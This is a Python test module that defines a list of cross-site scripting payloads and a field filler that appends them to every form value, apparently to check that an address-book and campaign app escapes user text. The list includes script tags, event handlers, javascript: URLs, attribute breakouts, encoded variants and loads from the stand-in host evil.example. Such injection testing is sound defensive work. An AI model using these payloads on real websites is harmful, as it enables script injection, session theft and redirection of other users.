"""A campaign, an address book and a section in which every text tries to become more than a text in a browser."""

from collections.abc import Iterator, Sequence

from every_field import Filled

__all__ = ["PAYLOADS", "HostileFields", "groups"]

RUN = "ran()"
"""What a payload runs if it can; who opens the page counts it."""

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<!--<script>{RUN}//-->",
    f"--><script>{RUN}</script>",
    f"</pre><script>{RUN}</script><pre>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script >",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.mjs'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    "<img src=https://evil.example/pixel.png>",
    "<image href=https://evil.example/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<a href=javascript:{RUN}>x</a>",
    "<form action=https://evil.example/><button>x</button></form>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'x" autofocus onfocus="{RUN}" style="position:fixed;inset:0',
    f"`-{RUN}-`",
    f"${{{RUN}}}",
    f'");{RUN};//',
    f'\\");{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"javascript:{RUN}",
    f"[x](javascript:{RUN})",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<x id=data>0</x><x id=printed>0</x><x name=body>0</x>",
)
"""Ways in which a text has become an element, an attribute, a script or a request on pages of others."""


_LONGEST = 900
"""Characters of payloads behind one word: no line of a campaign is longer than a thousand."""


def groups() -> Iterator[tuple[str, ...]]:
    """The payloads, as many together as stand in one line."""
    group: list[str] = []
    for payload in PAYLOADS:
        if sum(map(len, group)) + len(group) + len(payload) > _LONGEST:
            yield tuple(group)
            group = []
        group.append(payload)
    yield tuple(group)


class HostileFields(Filled):
    """Models with payloads behind the word in every field, each time from another one on."""

    def __init__(self, payloads: Sequence[str]) -> None:
        super().__init__()
        self._payloads = payloads

    def _word(self, path: str) -> str:
        at, word = len(self.readings) % len(self._payloads), super()._word(path)
        return " ".join((word, *self._payloads[at:], *self._payloads[:at]))
